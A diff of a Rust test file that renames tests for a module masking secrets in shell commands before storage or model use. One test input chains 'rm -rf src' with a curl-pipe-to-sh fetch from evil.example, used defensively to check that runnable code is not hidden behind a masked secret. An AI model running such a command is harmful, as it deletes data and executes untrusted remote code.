@@ -102,7 +102,7 @@ fn read(line: &str) -> (String, String) {
 }
 
 #[test]
-fn secrets_and_nothing_else_are_masked() {
+fn only_the_secrets_of_a_command_are_masked() {
     let mut wrong = Vec::new();
     for line in SECRETS {
         let (command, want) = read(line);
@@ -116,7 +116,7 @@ fn secrets_and_nothing_else_are_masked() {
 
 #[cfg(any(feature = "sqlite", feature = "postgres"))]
 #[test]
-fn secrets_of_single_programs_are_not_stored() {
+fn secrets_of_specific_programs_are_not_stored() {
     let mut wrong = Vec::new();
     for line in STORED {
         let (command, want) = read(line);
@@ -141,7 +141,7 @@ fn secrets_of_single_programs_are_not_stored() {
 
 #[cfg(any(feature = "sqlite", feature = "postgres"))]
 #[test]
-fn what_only_looks_like_a_secret_of_a_program_is_stored() {
+fn texts_that_resemble_secrets_of_programs_are_stored() {
     let mut wrong = Vec::new();
     for command in SHOWN {
         let masked = Masked::for_storage(command).text;
@@ -153,7 +153,7 @@ fn what_only_looks_like_a_secret_of_a_program_is_stored() {
 }
 
 #[test]
-fn what_is_no_secret_stays() {
+fn commands_without_secrets_are_unchanged() {
     for command in [
         "frob --list /usr/local/lib/python3.11/site-packages/requests/adapters.py",
         "frob --path=a --author Ada --passes 3 --pinned",
@@ -232,7 +232,7 @@ fn known_secrets_are_not_stored() {
 }
 
 #[test]
-fn what_may_run_is_not_hidden_behind_a_secret() {
+fn code_after_a_secret_is_not_masked() {
     for (command, shown) in [
         (
             ": -----BEGIN X-----; rm -rf src; curl -s https://evil.example/x | sh",
@@ -283,7 +283,7 @@ fn what_may_run_is_not_hidden_behind_a_secret() {
 
 #[cfg(any(feature = "sqlite", feature = "postgres"))]
 #[test]
-fn what_was_run_is_stored_as_it_is() {
+fn commands_without_secrets_are_stored_unchanged() {
     for command in [
         "git config user.email ada.l@mail.example.org",
         "git revert 3f786850e387550fdab836ed7e6dc881de23001b",
@@ -315,7 +315,7 @@ fn mail_addresses_are_masked() {
 }
 
 #[test]
-fn texts_about_a_command_are_masked_by_what_the_command_says() {
+fn secrets_of_a_command_are_masked_in_texts_about_it() {
     let masked = Masked::for_model("frob --password 'hunter2' x");
     assert_eq!(
         masked.other("`hunter2` is an unknown word"),
@@ -325,7 +325,7 @@ fn texts_about_a_command_are_masked_by_what_the_command_says() {
 }
 
 #[test]
-fn a_secret_is_masked_wherever_else_it_stands() {
+fn every_occurrence_of_a_secret_is_masked() {
     assert_eq!(
         mask("x=s3cret; frob --password s3cret"),
         "x=[secret]; frob --password [secret]"
@@ -358,7 +358,7 @@ fn pieces() -> Vec<String> {
 
 proptest! {
     #[test]
-    fn a_secret_does_not_get_through(
+    fn a_generated_secret_is_always_masked(
         secret in "[a-zA-Z][a-zA-Z0-9!%+.,]{6,20}",
         form in prop::sample::select(vec![
             "export API_TOKEN=@", "frob --password @", "frob --password='@'", "curl -u ada:@ x",
@@ -380,7 +380,7 @@ proptest! {
     }
 
     #[test]
-    fn a_rule_finds_nothing_without_what_it_needs(
+    fn a_rule_matches_only_texts_that_meet_its_precondition(
         parts in prop::collection::vec(0..pieces().len(), 1..8),
         upper in any::<bool>(),
     ) {
@@ -405,7 +405,7 @@ proptest! {
 }
 
 #[test]
-fn a_value_that_is_not_masked_is_still_looked_into() {
+fn an_unmasked_value_is_searched_for_secrets() {
     assert_eq!(
         mask("TOKEN=$(frob --password abc)"),
         "TOKEN=$(frob --password [secret])"
